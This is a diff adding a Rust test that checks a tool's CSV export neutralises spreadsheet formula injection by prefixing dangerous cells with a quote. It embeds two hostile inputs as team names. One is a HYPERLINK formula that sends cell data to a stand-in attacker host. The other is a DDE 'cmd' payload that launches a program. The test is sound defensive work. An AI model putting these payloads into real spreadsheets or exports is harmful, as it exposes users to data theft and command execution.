@@ -236,3 +236,52 @@ fn an_unwritable_output_names_the_file() {
         stderr(&output)
     );
 }
+
+/// Team names a spreadsheet would run as formulas (issue 19): the real binary's
+/// CSV writes them with a leading `'`, and leaves the number cells numbers.
+#[test]
+fn csv_cells_a_spreadsheet_would_run_are_written_inert() {
+    const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
+    const CMD: &str = "-2+3+cmd|' /C calc'!A0";
+    let fixture = Fixture::new();
+    let text = std::fs::read_to_string(fixture.config_path())
+        .unwrap()
+        .replace("team = \"payments\"", &format!("team = {HYPERLINK:?}"))
+        .replace("team = \"web\"", &format!("team = {CMD:?}"));
+    std::fs::write(fixture.config_path(), text).unwrap();
+    let output = run(
+        &fixture.config_path(),
+        &["--until", UNTIL_DATE, "--format", "csv"],
+        Some(TOKEN),
+    );
+    assert!(output.status.success(), "{}", stderr(&output));
+    let csv = stdout(&output);
+    let mut reader = csv::Reader::from_reader(csv.as_bytes());
+    let header = reader.headers().unwrap().clone();
+    let column = |name: &str| header.iter().position(|c| c == name).unwrap();
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    let teams: std::collections::BTreeSet<&str> = rows.iter().map(|r| &r[column("team")]).collect();
+    assert_eq!(
+        teams,
+        ["", &format!("'{CMD}") as &str, &format!("'{HYPERLINK}")]
+            .into_iter()
+            .collect(),
+        "{csv}"
+    );
+    let team_rows: Vec<&str> = rows
+        .iter()
+        .filter(|r| &r[column("scope")] == "team")
+        .map(|r| &r[column("name")])
+        .collect();
+    assert_eq!(team_rows.len(), 2, "{csv}");
+    for row in &rows {
+        for (name, cell) in header.iter().zip(row.iter()) {
+            let starts_formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+            let is_number = cell.parse::<f64>().is_ok();
+            assert!(
+                !starts_formula || is_number,
+                "{name} = {cell:?} would start a formula in\n{csv}"
+            );
+        }
+    }
+}
